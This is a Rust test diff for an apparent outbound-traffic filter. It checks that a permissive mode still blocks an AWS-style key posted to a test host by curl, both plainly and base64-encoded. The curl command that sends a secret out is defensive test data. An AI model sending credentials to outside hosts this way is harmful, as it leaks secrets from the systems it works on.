@@ -707,3 +707,30 @@ async fn the_shipped_rule_files_carry_tests_that_pass() {
         );
     }
 }
+
+/// `--permissive` forwards what the rules refuse, never what the scanner
+/// refuses: a key in the body (plainly or base64-encoded) to a host no rule
+/// allows is still blocked, and the origin receives nothing.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn permissive_learn_still_blocks_a_secret_in_the_body() {
+    let s = Setup::new().await;
+    let url = Setup::url(&s.new, "new.example.test", "/v1/upload");
+    let key = "AKIAQYLPMN5HFIQR7XYZ";
+    let b64 = "dG9rZW49QUtJQVFZTFBNTjVIRklRUjdYWVo="; // "token=AKIAQYLPMN5HFIQR7XYZ"
+    for body in [format!("token={key}"), format!("{{\"blob\":\"{b64}\"}}")] {
+        let script = format!("curl -fsS --max-time 20 -d '{body}' {url}");
+        let (code, out, err) = s.learn(&["--permissive"], &["sh", "-c", &script]).await;
+        assert_ne!(code, 0, "a secret got through: {out}{err}");
+    }
+    let log = std::fs::read_to_string(s.dir.path().join("learn.log")).unwrap();
+    let blocked = log
+        .lines()
+        .filter(|l| l.contains("\"reason\":\"secret_blocked\""))
+        .count();
+    assert_eq!(blocked, 2, "both refused by the scanner: {log}");
+    assert!(
+        s.new.received().is_empty(),
+        "the origin received {:?}",
+        s.new.received()
+    );
+}
